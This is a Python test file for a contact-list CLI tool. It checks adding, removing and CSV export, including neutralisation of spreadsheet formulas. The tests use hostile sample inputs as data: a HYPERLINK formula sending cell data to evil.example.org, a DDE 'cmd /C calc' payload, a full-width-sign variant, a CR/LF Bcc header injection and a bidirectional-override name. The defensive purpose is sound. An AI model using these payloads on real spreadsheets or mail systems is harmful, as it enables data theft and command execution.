"""contacts add, remove and export: by hand, history kept, formulas neutralised, round trips."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime
from pathlib import Path

from sqlalchemy import select

from inviter.contacts.contact_list import add_contact, list_contacts, remove_contact
from inviter.store.database import Database
from inviter.store.models import SENT, Contact, Delivery, MeetingState, Reply

from .conftest import Invoke
from .contacts_support import assert_refused, emails, stored

KARI = (
    "--name",
    "Kari Nordmann",
    "--email",
    "Kari.Nordmann@Kafjord.example.org",
    "--role",
    "Biblioteksjef",
    "--municipality",
    "Gáivuotna – Kåfjord – Kaivuono",
)


def _listed(invoke: Invoke) -> list[dict[str, str]]:
    result = invoke("contacts", "list", "--json")
    assert result.exit_code == 0, result.stderr
    value: list[dict[str, str]] = json.loads(result.stdout)
    return value


def test_add_checks_and_normalises_like_an_import(invoke: Invoke, project: Path) -> None:
    result = invoke("contacts", "add", *KARI, "--title", "Biblioteksjef", "--language", "EN")
    assert result.stderr == ""
    assert result.stdout == (
        "Added Kari Nordmann <kari.nordmann@kafjord.example.org> "
        "(biblioteksjef, Gáivuotna – Kåfjord – Kaivuono, Nord-Troms)\n"
    )
    assert _listed(invoke) == [
        {
            "name": "Kari Nordmann",
            "email": "kari.nordmann@kafjord.example.org",
            "role": "biblioteksjef",
            "municipality": "Gáivuotna – Kåfjord – Kaivuono",
            "region": "Nord-Troms",
            "organization": "",
            "title": "Biblioteksjef",
            "phone": "",
            "language": "en",
        }
    ]


def test_add_refuses_a_known_address_unless_updating(invoke: Invoke, project: Path) -> None:
    invoke("contacts", "add", *KARI)
    assert_refused(
        invoke,
        project,
        "contacts add: kari.nordmann@kafjord.example.org is already a contact (Kari Nordmann, "
        "Gáivuotna – Kåfjord – Kaivuono); add --update to replace it",
        "contacts",
        "add",
        *KARI[:3],
        "KARI.NORDMANN@kafjord.example.org",
        *KARI[4:],
    )
    result = invoke("contacts", "add", *KARI[:5], "ordfører", *KARI[6:], "--update")
    assert result.stdout == (
        "Updated Kari Nordmann <kari.nordmann@kafjord.example.org> "
        "(ordfører, Gáivuotna – Kåfjord – Kaivuono, Nord-Troms)\n"
    )
    assert [c["role"] for c in _listed(invoke)] == ["ordfører"]


def test_add_refuses_bad_values(invoke: Invoke, project: Path) -> None:
    invoke("contacts", "import", "contacts/troms.csv")
    cases = {
        ("--email", "kari@"): "contacts add: --email: 'kari@' is not a valid e-mail address: "
        "There must be something after the @-sign.",
        ("--name", "Kari\r\nBcc: all@example.org"): "contacts add: --name: "
        "'Kari\\r\\nBcc: all@example.org' contains a carriage return (CR)",
        ("--region", "Midt-Troms"): "contacts add: --region: 'Midt-Troms' does not match "
        "Gáivuotna – Kåfjord – Kaivuono, which is in Nord-Troms",
        ("--municipality", "Bodø"): "contacts add: --region: is empty and 'Bodø' is not a "
        "municipality of Troms; give the region",
        ("--role", "  "): "contacts add: --role: is empty; every contact needs a name, email, "
        "role and municipality",
    }
    for (option, value), message in cases.items():
        args = list(KARI)
        if option in args:
            args[args.index(option) + 1] = value
        else:
            args += [option, value]
        assert_refused(invoke, project, message, "contacts", "add", *args)


def test_add_without_a_required_option_is_a_usage_error(invoke: Invoke, project: Path) -> None:
    result = invoke("contacts", "add", "--name", "Kari", "--role", "partner")
    assert result.exit_code == 2
    assert "Error: Missing option '--email'." in result.stderr
    assert stored(project) == []


def test_remove_keeps_deliveries_and_replies(invoke: Invoke, project: Path) -> None:
    invoke("contacts", "import", "contacts/troms.csv")
    db = Database(f"sqlite:///{project / 'inviter.db'}")
    address = "aino.kemi@bardu.example.org"
    now = datetime(2022, 9, 1, 8, 0, tzinfo=UTC)
    with db.session() as session:
        contact = session.scalars(select(Contact).where(Contact.email == address)).one()
        meeting = MeetingState(slug="regionmote-midt-troms", uid="u1@example.org", sequence=0)
        session.add(meeting)
        session.flush()
        session.add(
            Delivery(
                meeting_id=meeting.id,
                contact_id=contact.id,
                email=address,
                name=contact.name,
                sequence=0,
                transport="outbox",
                message_id="<m1@example.org>",
                status=SENT,
            )
        )
        session.add(Reply(meeting_id=meeting.id, email=address, partstat="ACCEPTED", dtstamp=now))
    result = invoke("contacts", "remove", "Aino.Kemi@Bardu.example.org")
    assert result.stdout == "Removed aino.kemi@bardu.example.org\n"
    assert address not in emails(project)
    with db.session() as session:
        delivery = session.scalars(select(Delivery)).one()
        assert (delivery.email, delivery.contact_id, delivery.status) == (address, None, SENT)
        assert session.scalars(select(Reply.email)).all() == [address]
    db.close()
    assert_refused(
        invoke,
        project,
        "contacts remove: aino.kemi@bardu.example.org is not in the contact list",
        "contacts",
        "remove",
        "aino.kemi@bardu.example.org",
    )
    assert_refused(
        invoke,
        project,
        "contacts remove: 'aino@' is not a valid e-mail address: There must be something after "
        "the @-sign.",
        "contacts",
        "remove",
        "aino@",
    )


def test_export_neutralises_formulas_and_imports_back(invoke: Invoke, project: Path) -> None:
    invoke("contacts", "import", "contacts/troms.csv")
    hostile = {
        "--name": '=HYPERLINK("http://evil.example.org/?"&A1,"Klikk")',
        "--email": "eve@example.org",
        "--role": "partner",
        "--municipality": "Tromsø",
        "--organization": "@SUM(1+1)*cmd|' /C calc'!A0",
        "--title": "-2+3",
        "--phone": "+47 777 00 999",
    }
    args = [item for pair in hostile.items() for item in pair]
    assert invoke("contacts", "add", *args).exit_code == 0
    before = _listed(invoke)

    result = invoke("contacts", "export")
    assert result.exit_code == 0
    rows = list(csv.reader(io.StringIO(result.stdout)))
    assert rows[0] == [
        "name",
        "email",
        "role",
        "municipality",
        "region",
        "organization",
        "title",
        "phone",
        "language",
    ]
    assert len(rows) == 38
    [eve] = [row for row in rows if row[1] == "eve@example.org"]
    assert eve == [
        "'" + hostile["--name"],
        "eve@example.org",
        "partner",
        "Tromsø",
        "Tromsø og omegn",
        "'" + hostile["--organization"],
        "'-2+3",
        "'+47 777 00 999",
        "nb",
    ]
    assert all(not cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
    assert result.stdout.startswith("name,email,role,municipality,region,organization,title,")

    written = invoke("contacts", "export", "--excel", "-o", "backup.csv")
    assert written.stdout == "Wrote 37 contacts to backup.csv\n"
    data = (project / "backup.csv").read_bytes()
    assert data.startswith(b"\xef\xbb\xbfname;email;role;municipality;")
    assert invoke("contacts", "export", "-o", "plain.csv").exit_code == 0
    plain = (project / "plain.csv").read_bytes()
    assert plain.decode() == result.stdout.replace("\n", "\r\n")  # RFC 4180 line ends
    for name in ("backup.csv", "plain.csv"):
        (project / "inviter.db").unlink()
        imported = invoke("contacts", "import", name)
        assert imported.stdout == f"{name}: 37 added, 0 updated, 0 unchanged\n"
        assert _listed(invoke) == before


def test_export_to_a_folder_that_does_not_exist(invoke: Invoke, project: Path) -> None:
    invoke("contacts", "import", "contacts/troms.csv")
    assert_refused(
        invoke,
        project,
        "nowhere/backup.csv: cannot be written: No such file or directory",
        "contacts",
        "export",
        "-o",
        "nowhere/backup.csv",
    )


def test_the_python_api(tmp_path: Path) -> None:
    db = Database(f"sqlite:///{tmp_path / 'api.db'}")
    fields = {"name": "Ola", "email": "Ola@Example.org", "role": "Partner"}
    contact, created = add_contact(db, {**fields, "municipality": "Senjá"})
    assert created
    assert (contact.email, contact.role, contact.municipality, contact.region) == (
        "ola@example.org",
        "partner",
        "Senja",
        "Midt-Troms",
    )
    again, created = add_contact(db, {**fields, "municipality": "Bardu"}, update=True)
    assert not created
    assert list_contacts(db, municipality="Bearddu", role="PARTNER", region="midt-troms") == [again]
    assert list_contacts(db, municipality="Senja") == []
    assert remove_contact(db, "OLA@example.org")
    assert not remove_contact(db, "ola@example.org")
    db.close()


def test_full_width_formula_signs_are_neutralised_like_ascii_ones(
    invoke: Invoke, project: Path
) -> None:
    # Excel reads ＝ (U+FF1D) as =; contacts export now guards it as attendance does.
    invoke("contacts", "import", "contacts/troms.csv")
    name = '\uff1dHYPERLINK("http://evil.example.org")'
    added = invoke(
        "contacts",
        "add",
        "--name",
        name,
        "--email",
        "fw@example.org",
        "--role",
        "partner",
        "--municipality",
        "Tromsø",
    )
    assert added.exit_code == 0, added.output
    exported = invoke("contacts", "export", "-o", "out.csv")
    assert exported.exit_code == 0
    rows = list(csv.reader(io.StringIO((project / "out.csv").read_text(encoding="utf-8-sig"))))
    [row] = [r for r in rows if r[1] == "fw@example.org"]
    assert row[0] == "'" + name
    assert invoke("contacts", "import", "out.csv").exit_code == 0
    listed = json.loads(invoke("contacts", "list", "--json").stdout)
    assert [c["name"] for c in listed if c["email"] == "fw@example.org"] == [name]


def test_a_name_with_a_bidirectional_override_is_refused(invoke: Invoke) -> None:
    result = invoke(
        "contacts",
        "add",
        "--name",
        "Kari \u202eNordmann",
        "--email",
        "kari@example.org",
        "--role",
        "partner",
        "--municipality",
        "Tromsø",
    )
    assert result.exit_code == 2
    [line] = result.stderr.splitlines()
    assert "contains the bidirectional control U+202E" in line
    assert line.startswith("Error: ")
